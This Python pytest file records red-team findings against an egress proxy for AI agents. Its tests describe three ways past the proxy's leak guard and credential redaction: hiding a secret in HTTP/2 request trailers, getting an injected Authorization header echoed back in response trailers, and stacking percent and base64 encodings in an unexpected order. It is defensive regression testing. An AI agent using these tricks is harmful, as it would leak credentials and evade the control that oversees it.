"""Red team 3 findings: each test fails while the bypass it describes works (real `warden run`).

1. HTTP/2 request trailers are not leak-scanned: a secret in a trailer field reaches a host the
   credential is not bound to, and the audit records an allowed request (README, Security
   model: "The leak guard scans ... chunked trailers").
2. HTTP/2 response trailers are not redacted: an upstream on the credential's host that echoes
   the injected Authorization in a trailer field hands the agent the real credential
   (README, Credentials: "replaces an echoed secret ... in response headers and bodies").
3. The normalised views undo one layer each in one fixed order, so the same listed encodings
   stacked another way pass (double percent-encoding, base64 of a percent-encoded secret).
"""

from __future__ import annotations

import base64
import contextlib
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import h2.config
import h2.connection
import h2.events
import pytest
import requests
import trustme

from .bypass_helpers import H2Origin, open_tunnel, run_h2_origin, run_logging_origin
from .harness import Warden, hosts_file, sha256_hex, start_warden

SECRET = "s3cr3tTOKENvalue0123456789abcdef"


def _rules(port: int) -> dict[str, Any]:
    return {"agents": [{"id": "coder", "token_sha256": [sha256_hex("tok")], "policies": ["p"]}],
            "policies": {"p": {"allow": [{"host": "leak.test", "ports": [port]}, {"host": "cred.test", "ports": [port]}],
                               "credentials": [{"id": "c1", "host": "cred.test", "ports": [port],
                                                "inject": {"Authorization": "Bearer ${secret:S1}"}}]}},
            "settings": {"hosts_file": "hosts", "tls_intercept": "always", "private_networks": "allow"}}


@pytest.fixture
def ca() -> trustme.CA:
    return trustme.CA()


def _warden(tmp_path: Path, ca: trustme.CA, port: int) -> Warden:
    ca_path = tmp_path / "upstream-ca.pem"
    ca.cert_pem.write_to_path(str(ca_path))
    (tmp_path / "rules").mkdir()
    hosts_file(tmp_path / "rules" / "hosts")
    return start_warden(tmp_path, _rules(port), upstream_ca=ca_path, agents={"coder": "tok"}, env={"S1": SECRET})


class _TrailerLog:
    """Wraps h2's receive_data (the h2 origin runs in this process) to log the trailers a server received."""

    def __init__(self) -> None:
        self.seen: list[list[tuple[bytes, bytes]]] = []
        self.lock = threading.Lock()

    @property
    def blob(self) -> bytes:
        with self.lock:
            return b"\n".join(k + b": " + v for tr in self.seen for k, v in tr)


@pytest.fixture
def trailer_log(monkeypatch: pytest.MonkeyPatch) -> Iterator[_TrailerLog]:
    log = _TrailerLog()
    original = h2.connection.H2Connection.receive_data

    def receive_data(self: h2.connection.H2Connection, data: bytes) -> list[h2.events.Event]:
        events = original(self, data)
        if not self.config.client_side:
            for ev in events:
                if isinstance(ev, h2.events.TrailersReceived):
                    with log.lock:
                        log.seen.append([(bytes(k), bytes(v)) for k, v in ev.headers])
        return events

    monkeypatch.setattr(h2.connection.H2Connection, "receive_data", receive_data)
    yield log


def _h2_post_with_trailers(sock: socket.socket, authority: str, trailers: list[tuple[str, str]],
                           extra: list[tuple[str, str]]) -> str | None:
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "POST"), (":authority", authority), (":scheme", "https"), (":path", "/up"),
                            ("te", "trailers"), *extra])
    conn.send_data(sid, b"hello")
    conn.send_headers(sid, trailers, end_stream=True)
    sock.sendall(conn.data_to_send())
    sock.settimeout(10)
    status = None
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        data = sock.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                heads = {(k.decode() if isinstance(k, bytes) else str(k)): v for k, v in ev.headers}
                got = heads.get(":status")
                status = got.decode() if isinstance(got, bytes) else got
            if isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset)):
                return status
        sock.sendall(conn.data_to_send())
    return status


@pytest.mark.parametrize("extra", [[], [("content-length", "5")]], ids=["streamed", "buffered"])
def test_h2_request_trailer_secret_is_refused(tmp_path: Path, ca: trustme.CA, trailer_log: _TrailerLog,
                                              extra: list[tuple[str, str]]) -> None:
    with run_h2_origin(ca) as origin:
        warden = _warden(tmp_path, ca, origin.port)
        try:
            sock = open_tunnel(warden, "coder", "leak.test", origin.port, alpn=["h2"])
            assert isinstance(sock, ssl.SSLSocket) and sock.selected_alpn_protocol() == "h2"
            status = _h2_post_with_trailers(sock, f"leak.test:{origin.port}", [("x-checksum", SECRET)], extra)
            sock.close()
            warden.audit_records(lambda rs: any(r.get("event") == "request" for r in rs))
        finally:
            warden.stop()
    assert SECRET.encode() not in trailer_log.blob, "the secret in an HTTP/2 trailer reached an unbound host"
    assert status == "403"


@pytest.mark.parametrize("spelling", ["double-percent"])  # base64 of a disguise: not claimed (README)
def test_stacked_disguises_in_other_orders_are_refused(tmp_path: Path, ca: trustme.CA, spelling: str) -> None:
    pct = "".join(f"%{c:02X}" for c in SECRET.encode())
    body = {"double-percent": "".join(f"%25{ord(c):02X}" for c in pct).encode(),
            "base64-of-percent": base64.b64encode(pct.encode())}[spelling]
    with run_logging_origin(ca=ca) as origin:
        warden = _warden(tmp_path, ca, origin.port)
        try:
            s = requests.Session()
            s.trust_env = False
            s.proxies = {"https": warden.proxy_url("coder")}
            r = s.post(f"https://leak.test:{origin.port}/x", data=body, verify=str(warden.ca_cert), timeout=30)
        finally:
            warden.stop()
        assert not origin.saw(body), f"{spelling}: the disguised secret reached an unbound host"
    assert r.status_code == 403


class _EchoAuthInTrailerOrigin(H2Origin):
    """An HTTP/2 origin that answers every request with a body and a trailer echoing its Authorization."""

    def _connection(self, raw: socket.socket) -> None:
        raw.settimeout(20)
        conn: socket.socket = raw
        try:
            conn = self.ctx.wrap_socket(raw, server_side=True)
            h2c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
            h2c.initiate_connection()
            conn.sendall(h2c.data_to_send())
            heads: dict[int, dict[bytes, bytes]] = {}
            while not self.stopping.is_set():
                data = conn.recv(65536)
                if not data:
                    break
                for ev in h2c.receive_data(data):
                    if isinstance(ev, h2.events.RequestReceived):
                        heads[ev.stream_id] = {bytes(k): bytes(v) for k, v in ev.headers}
                    elif isinstance(ev, h2.events.StreamEnded):
                        auth = heads[ev.stream_id].get(b"authorization", b"none")
                        with self.lock:
                            self.requests.append(({"authorization": auth.decode()}, b""))
                        h2c.send_headers(ev.stream_id, [(":status", "200"), ("content-type", "text/plain")])
                        h2c.send_data(ev.stream_id, b"body\n")
                        h2c.send_headers(ev.stream_id, [("x-echo", auth)], end_stream=True)
                conn.sendall(h2c.data_to_send())
        except Exception:  # a test origin: any failure ends the connection
            pass
        finally:
            with contextlib.suppress(OSError):
                conn.close()
                raw.close()


def test_h2_response_trailer_echo_of_injected_secret_is_redacted(tmp_path: Path, ca: trustme.CA) -> None:
    origin = _EchoAuthInTrailerOrigin(ca)
    thread = threading.Thread(target=origin.serve, daemon=True)
    thread.start()
    try:
        warden = _warden(tmp_path, ca, origin.port)
        try:
            sock = open_tunnel(warden, "coder", "cred.test", origin.port, alpn=["h2"])
            assert isinstance(sock, ssl.SSLSocket) and sock.selected_alpn_protocol() == "h2"
            conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
            conn.initiate_connection()
            conn.send_headers(1, [(":method", "GET"), (":authority", f"cred.test:{origin.port}"), (":scheme", "https"),
                                  (":path", "/"), ("te", "trailers")], end_stream=True)
            sock.sendall(conn.data_to_send())
            sock.settimeout(10)
            seen: list[Any] = []
            deadline = time.monotonic() + 10
            ended = False
            while not ended and time.monotonic() < deadline:
                data = sock.recv(65536)
                if not data:
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        seen.extend(ev.headers)
                    ended = ended or isinstance(ev, (h2.events.StreamEnded, h2.events.StreamReset))
                sock.sendall(conn.data_to_send())
            sock.close()
        finally:
            warden.stop()
    finally:
        origin.stopping.set()
        origin.sock.close()
        thread.join(5)
    assert origin.requests and SECRET in origin.requests[0][0]["authorization"]  # it was injected
    assert ended
    assert not any(SECRET in str(v) for _, v in seen), "the real credential reached the agent in a response trailer"
